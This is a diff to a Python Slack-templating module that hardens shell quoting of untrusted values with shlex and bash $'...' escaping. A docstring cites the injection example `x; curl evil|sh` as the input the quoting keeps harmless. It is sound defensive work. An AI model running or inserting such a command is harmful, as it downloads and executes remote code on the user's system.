@@ -5,8 +5,10 @@ so a group called ``<!channel>`` or ``a&b`` shows as written and pings nobody;
 it is also put on one line with backticks as ``'``, so no value can start a
 line of its own or open a code span.
 Literal template text is trusted markup. ``| code`` additionally keeps a value
-from closing an inline code span; ``| shell`` makes it one shell word, for a
-command inside Slack text (runbook commands are quoted by lagdoctor.runbooks).
+from closing an inline code span; ``| shell`` makes it one shell word naming the
+exact value, for a command inside Slack text (``shell_quote_inline``: bash's
+$'...' where a backtick or line break cannot be shown in a code span; runbook
+commands are quoted by lagdoctor.runbooks with ``shell_quote``).
 """
 
 from __future__ import annotations
@@ -119,13 +121,51 @@ def plain_label(value: object, limit: int = 80) -> str:
 
 
 def shell_quote(value: object) -> str:
-    """One shell word, whatever the value holds (`x; curl evil|sh` stays one argument).
-
-    Made code-safe first: the Slack finalizer turns backticks into quotes
-    afterwards, which would otherwise close the shell quoting it wrapped."""
+    """One shell word naming exactly ``value`` (`x; curl evil|sh` stays one argument):
+    shlex.quote, or bash's $'...' when it holds a control character (a line break or an
+    escape sequence would split or repaint a pasted command)."""
     import shlex
 
-    return shlex.quote(code_safe(value))
+    text = "" if value is None else str(value)
+    if any(_control(c) for c in text):
+        return _ansi_c_quote(text, _control)
+    return shlex.quote(text)
+
+
+def shell_quote_inline(value: object) -> str:
+    """``shell_quote`` for a Slack code span: also without a backtick (Slack cannot escape
+    one), a line break or a run of whitespace (which the span would not keep), so the
+    word pasted from Slack still names the exact group."""
+    import shlex
+
+    text = "" if value is None else str(value)
+    if any(_inline_unsafe(c) for c in text) or text != text.strip() or "  " in text:
+        return _ansi_c_quote(text, lambda c: _inline_unsafe(c) or c == " ")
+    return shlex.quote(text)
+
+
+def _control(c: str) -> bool:
+    import unicodedata
+
+    return unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp")
+
+
+def _inline_unsafe(c: str) -> bool:
+    return c == "`" or _control(c) or (c.isspace() and c != " ")
+
+
+def _ansi_c_quote(text: str, escape) -> str:
+    """bash's $'...' (also zsh and ksh): each character ``escape`` picks as \\xHH bytes of its
+    UTF-8 (never more than two hex digits, so the next character cannot join one)."""
+    out = []
+    for c in text:
+        if c in "\\'":
+            out.append("\\" + c)
+        elif escape(c):
+            out.append("".join(f"\\x{b:02x}" for b in c.encode("utf-8")))
+        else:
+            out.append(c)
+    return "$'" + "".join(out) + "'"
 
 
 def code_safe(value: object) -> str:
@@ -150,7 +190,7 @@ def mrkdwn_env():
     env = Environment(finalize=mrkdwn_value, autoescape=False, undefined=StrictUndefined,
                       keep_trailing_newline=False)
     env.filters["code"] = code_safe
-    env.filters["shell"] = shell_quote
+    env.filters["shell"] = shell_quote_inline
     return env
 
 
